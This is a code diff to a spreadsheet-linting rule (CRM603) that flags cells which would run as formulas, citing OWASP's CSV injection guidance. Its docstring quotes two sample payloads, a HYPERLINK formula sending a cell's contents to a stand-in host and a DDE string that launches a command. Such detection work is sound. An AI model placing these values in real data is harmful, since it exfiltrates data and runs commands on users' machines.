@@ -10,6 +10,8 @@ opened again, it runs: it can send cells to a stranger (OWASP, CSV Injection).
 **Bad** `=HYPERLINK("http://x.example?"&A2,"click")` as a company's name; `@SUM(1+9)*cmd|' /C calc'!A0`.
 
 **Good** The name without the sign, or the row removed.
+
+**crmsheet** It names the cell and leaves it: whoever wrote it there may mean it.
 """
 
 from __future__ import annotations
@@ -60,4 +62,4 @@ def _suspects(cells: npt.NDArray[np.object_]) -> Sequence[int]:
     return np.flatnonzero(first.to_numpy(zero_copy_only=False)).tolist()
 
 
-RULE = Rule(RuleCard("CRM603", Severity.warning, N_("Text that would run as a formula")), scan=_scan)
+RULE = Rule(RuleCard("CRM603", Severity.warning, N_("Text that would run as a formula"), __doc__), scan=_scan)
